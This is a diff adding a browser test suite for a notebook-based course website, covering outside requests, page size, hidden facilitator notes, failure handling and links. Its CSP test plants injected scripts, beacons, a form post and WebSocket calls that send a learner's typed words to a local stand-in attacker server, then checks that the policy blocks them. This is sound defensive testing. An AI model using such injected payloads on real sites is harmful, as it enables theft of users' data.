@@ -1,0 +1,324 @@
+"""A page on every surface: what it loads, what it keeps out, and what it does when something fails."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import re
+import threading
+import time
+import urllib.request
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import nbformat
+import pytest
+from conftest import ROOT, SECONDS, Jupyter, Watched
+from hands import BY_EVERY_DOOR, EXERCISE, FOLLOW, PAGES, PLAN, SHARE, Course, Learner, spaced
+from playwright.sync_api import BrowserContext, Page, expect
+
+from alongside import content
+
+pytestmark = pytest.mark.browser
+
+CARD, ARRIVE = "share-power-one-card", "share-power-arrive"
+STORY = "scenario-one-seat-on-the-board"
+LARGEST = 120 * 1000  # bytes of a published lesson with everything that it loads
+
+
+def notebook_of(name: str, root: Path = ROOT) -> Path:
+    return root / (f"{name}.ipynb" if name.startswith("exercises/") else f"notebooks/{name}.ipynb")
+
+
+# --- what a page asks for
+
+
+@BY_EVERY_DOOR
+def test_a_page_asks_for_itself_and_nothing_else(learner: Learner, tab: Watched) -> None:
+    for name in PAGES:
+        tab.requests.clear()
+        learner.open(name).unfold()
+        learner.my_words()
+        learner.page.mouse.wheel(0, 20000)
+        learner.page.wait_for_load_state("networkidle")
+        assert [url for url in tab.requests if not url.startswith("data:")] == [learner.course.address(name)]
+    assert tab.errors == []
+
+
+@pytest.mark.parametrize("name", PAGES)
+def test_a_published_page_is_small_with_everything_that_it_loads(learner: Learner, name: str) -> None:
+    sizes: list[int] = []
+    learner.page.on("response", lambda answer: sizes.append(len(answer.body())) if answer.ok else None)
+    learner.open(name).page.wait_for_load_state("networkidle")
+    assert sizes
+    print(f"{name}: {sum(sizes)} bytes")
+    assert sum(sizes) <= LARGEST
+
+
+class _Stranger(http.server.BaseHTTPRequestHandler):
+    """Another host. It would answer whoever asks, and it writes down what was asked."""
+
+    asked: list[str] = []  # noqa: RUF012  # one list for all requests is meant
+
+    def do_GET(self) -> None:
+        self.asked.append(self.path)
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    do_POST = do_GET
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def stranger() -> Iterator[str]:
+    _Stranger.asked.clear()
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Stranger) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://localhost:{server.server_port}"  # the pages come from 127.0.0.1: this is another origin
+        server.shutdown()
+
+
+def plant(page: str, stranger: str) -> str:
+    """A page into which somebody put what would send words away."""
+    bad = (
+        f'<img src="{stranger}/picture"><link rel="stylesheet" href="{stranger}/style">'
+        f'<script src="{stranger}/script"></script><iframe src="{stranger}/frame"></iframe>'
+        f"<script>document.title = 'planted'; fetch('{stranger}/fetch'); navigator.sendBeacon('{stranger}/beacon')</script>"
+        f"<form id='planted' method='post' action='{stranger}/form'></form>"
+        f"<p onclick='document.title = \"planted\"'>A planted line</p>"
+    )
+    before, end, after = page.rpartition("</main>")  # the page's script names that tag too
+    assert end
+    return before + bad + end + after
+
+
+@pytest.mark.parametrize("door", ["http", "file"])
+def test_the_policy_of_a_published_page_lets_nothing_planted_through(
+    context: BrowserContext, site: Path, stranger: str, serve: Callable[[Path], str], tmp_path: Path, door: str
+) -> None:
+    page = context.new_page()
+    text = plant((site / f"{SHARE}.html").read_text(encoding="utf-8"), stranger)
+    open_policy = re.sub(r"<meta[^>]*Content-Security-Policy[^>]*>", "", text)
+    assert open_policy != text
+    (tmp_path / "held.html").write_text(text, encoding="utf-8")
+    (tmp_path / "open.html").write_text(open_policy, encoding="utf-8")
+    home = serve(tmp_path) if door == "http" else tmp_path.as_uri() + "/"
+
+    # Without the policy the planted lines do their work: this test can see.
+    page.goto(f"{home}open.html")
+    expect(page).to_have_title("planted")
+    page.wait_for_load_state("networkidle")
+    assert {"/picture", "/script", "/style", "/fetch", "/frame"} <= set(_Stranger.asked)
+
+    _Stranger.asked.clear()
+    page.goto(f"{home}held.html")
+    learner = Learner(page, Course(door, lambda name: f"{home}held.html", "")).ready()
+    learner.write(CARD, "quiet otter")
+    page.get_by_text("A planted line").click()
+    refused = page.evaluate(
+        """async ([stranger, word]) => {
+            const tries = {
+                fetch: () => fetch(`${stranger}/fetch?${word}`),
+                socket: () => new Promise((done, failed) => {
+                    const line = new WebSocket(stranger.replace("http", "ws") + `/socket?${word}`);
+                    line.onopen = done; line.onerror = failed;
+                }),
+                picture: () => new Promise((done, failed) => {
+                    const picture = new Image();
+                    picture.onload = done; picture.onerror = failed; picture.src = `${stranger}/picture?${word}`;
+                }),
+                worker: () => new Promise((done, failed) => {
+                    const worker = new Worker(URL.createObjectURL(new Blob([""])));
+                    worker.onerror = failed; setTimeout(done, 1000);
+                }),
+                eval: async () => document.head.append(Object.assign(document.createElement("script"), {
+                    textContent: "document.title = 'planted'"})),
+                beacon: async () => navigator.sendBeacon(`${stranger}/beacon?${word}`),
+                form: async () => document.getElementById("planted").submit(),
+            };
+            const refused = [];
+            for (const [name, attempt] of Object.entries(tries)) await attempt().catch(() => refused.push(name));
+            return refused;
+        }""",
+        [stranger, "quiet-otter"],
+    )
+    page.wait_for_load_state("networkidle")
+    assert {"fetch", "socket", "picture", "worker"} <= set(refused)
+    assert _Stranger.asked == []
+    expect(page).to_have_title("Lesson 5")
+    expect(learner.box(CARD)).to_have_value("quiet otter")
+
+
+# --- what only facilitators read
+
+
+@BY_EVERY_DOOR
+@pytest.mark.parametrize("name", [SHARE, EXERCISE])
+def test_what_facilitators_read_is_not_on_a_learners_page(learner: Learner, name: str) -> None:
+    text = spaced(learner.open(name).page.locator("body").text_content() or "")
+    assert_only_for_learners(text, name)
+
+
+@pytest.mark.parametrize("course", ["voila"], indirect=True)
+@pytest.mark.parametrize("asked", ["template=lab", "template=base", "theme=dark&template=classic"])
+def test_no_other_template_can_be_asked_for(learner: Learner, tab: Watched, asked: str) -> None:
+    learner.page.goto(f"{learner.course.address(SHARE)}&{asked}")
+    learner.ready()
+    assert_only_for_learners(spaced(learner.page.locator("body").text_content() or ""), SHARE)
+    expect(learner.page.get_by_role("heading", level=1)).to_have_text(content.lesson(SHARE).title)
+
+
+def assert_only_for_learners(text: str, name: str) -> None:
+    cells = [cell for cell in nbformat.read(notebook_of(name), 4).cells if cell.cell_type == "markdown"]
+    for_facilitators = [cell.source for cell in cells if "facilitator" in cell.metadata.get("tags", [])]
+    assert for_facilitators
+    assert any(beginning(cell.source) in text for cell in cells)
+    for source in for_facilitators:
+        assert beginning(source) not in text
+    assert "Watch for:" not in text
+
+
+def beginning(source: str) -> str:
+    """The first words of a cell, as a page shows them."""
+    return spaced(re.sub(r"[*_#>]", "", source))[:40]
+
+
+# --- while a page gets ready, and when something fails
+
+
+@pytest.fixture
+def lesson(jupyter: Jupyter) -> Iterator[Callable[[str], str]]:
+    """Puts a changed copy of "Share power" into the course, for one test: the source of one more code cell."""
+    made: list[Path] = []
+
+    def add(source: str) -> str:
+        name = f"{90 + len(made)}-changed"
+        notebook = nbformat.read(notebook_of(SHARE, jupyter.folder), 4)
+        notebook.metadata["alongside"]["number"] = 90 + len(made)
+        at = next(i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code" and "rate(" in cell.source)
+        notebook.cells.insert(at, nbformat.v4.new_code_cell(source, id="changed"))
+        made.append(jupyter.folder / "notebooks" / f"{name}.ipynb")
+        nbformat.write(notebook, made[-1])
+        return name
+
+    yield add
+    for path in made:
+        path.unlink()
+
+
+@pytest.fixture
+def voila(tab: Watched, jupyter: Jupyter) -> Learner:
+    return Learner(tab.page, jupyter.course())
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["1 / 0", "raise RuntimeError('secret detail')", "not python", "import no_such_module", "scenario('the-last-bus')"],
+)
+def test_a_cell_that_fails_is_said_kindly_and_the_rest_of_the_page_works(
+    voila: Learner, lesson: Callable[[str], str], source: str
+) -> None:
+    page = voila.open(lesson(source)).page
+    sorry = page.get_by_role("note")
+    expect(sorry).to_have_count(1)
+    expect(sorry).to_contain_text("One part of this page did not work.")
+    expect(sorry).to_contain_text("Nothing that you wrote is lost.")
+    everything = page.content()
+    for word in ("Traceback", "ZeroDivisionError", "RuntimeError", "SyntaxError", "ModuleNotFound", "secret detail"):
+        assert word not in everything
+    assert "AlongsideError" not in everything
+    # What comes after it is there and works.
+    voila.question(ARRIVE).get_by_role("radio", name="4", exact=True).check()
+    voila.write(CARD, "quiet otter").reload()
+    expect(voila.box(CARD)).to_have_value("quiet otter")
+    expect(page.get_by_role("contentinfo")).to_contain_text("Someone to talk to")
+
+
+def test_while_a_page_gets_ready_it_says_so_and_can_be_left(
+    voila: Learner, lesson: Callable[[str], str], jupyter: Jupyter
+) -> None:
+    page = voila.page
+    voila.open(SHARE).write(CARD, "quiet otter")
+    gate = jupyter.folder / "go-on"
+    name = lesson(f"import os, time\nwhile not os.path.exists({str(gate)!r}): time.sleep(0.05)")
+    try:
+        page.goto(voila.course.address(name), wait_until="commit")
+        expect(page.get_by_role("status").filter(has_text="Getting the page ready…")).to_be_visible()
+        expect(page.get_by_role("heading", level=1)).to_be_visible()
+        expect(page.get_by_role("contentinfo")).to_have_count(0)
+        voila.quick_exit()
+        expect(page).to_have_url(voila.course.neutral)
+        assert voila.stored() == {}
+    finally:
+        gate.touch()
+
+
+def test_a_page_goes_on_working_when_its_kernel_is_gone(voila: Learner, jupyter: Jupyter) -> None:
+    page = voila.open(SHARE).page
+    end_kernels(jupyter)
+    voila.write(CARD, "quiet otter")
+    voila.skip(ARRIVE)
+    story = voila.story(STORY)
+    story.shown.get_by_role("button").first.click()
+    expect(story.shown).to_contain_text("You chose:")
+    with page.expect_download() as saved:
+        voila.my_words().get_by_role("button", name="Save as a file", exact=True).click()
+    assert "quiet otter" in Path(saved.value.path()).read_text(encoding="utf-8")
+    page.keyboard.press("Escape")
+    page.get_by_role("link", name=f"Go to: {content.lesson(FOLLOW).title}").click()
+    expect(page.get_by_role("heading", level=1)).to_have_text(content.lesson(FOLLOW).title)
+    expect(voila.ready().my_words()).to_contain_text("quiet otter")
+
+
+def end_kernels(jupyter: Jupyter) -> None:
+    def ask(path: str, method: str = "GET") -> list[dict[str, str]]:
+        request = urllib.request.Request(
+            f"{jupyter.origin}/api/{path}", method=method, headers={"Authorization": f"token {jupyter.token}"}
+        )
+        with urllib.request.urlopen(request, timeout=30) as answer:
+            return json.loads(answer.read() or "[]")
+
+    running = ask("kernels")
+    assert running
+    for kernel in running:
+        ask(f"kernels/{kernel['id']}", "DELETE")
+    assert ask("kernels") == []
+
+
+# --- links
+
+
+@BY_EVERY_DOOR
+def test_every_link_of_the_course_leads_to_a_page(learner: Learner, tab: Watched) -> None:
+    page = learner.page
+    for name in (PAGES[0], EXERCISE):
+        learner.open(name).unfold()
+        links = page.get_by_role("navigation").get_by_role("link")
+        for address, words in links.evaluate_all("(all) => all.map((one) => [one.href, one.textContent])"):
+            page.goto(address)
+            learner.ready()
+            title = re.sub(r"^(Group exercise )?\d+\. |^(Go to|For a group): ", "", words)
+            expect(page.get_by_role("heading", level=1)).to_have_text(title)
+
+
+def test_the_folder_itself_leads_to_the_first_page(tab: Watched, published: str) -> None:
+    tab.page.goto(f"{published}index.html")
+    expect(tab.page.get_by_role("heading", level=1)).to_have_text(content.lesson(PAGES[0]).title)
+
+
+def test_without_javascript_a_page_can_still_be_read(context: BrowserContext, course: Course) -> None:
+    assert context.browser
+    plain = context.browser.new_context(java_script_enabled=False)
+    try:
+        page = plain.new_page()
+        page.goto(course.address(SHARE))
+        main = page.get_by_role("main")
+        expect(main).to_contain_text("The boxes on this page need JavaScript", use_inner_text=True)
+        expect(main).to_contain_text("How often do people here have a say", use_inner_text=True)
+        expect(page.get_by_text("Getting the page ready…")).to_be_hidden()
+        expect(page.get_by_role("link", name=f"Go to: {content.lesson(FOLLOW).title}")).to_be_visible()
+    finally:
+        plain.close()
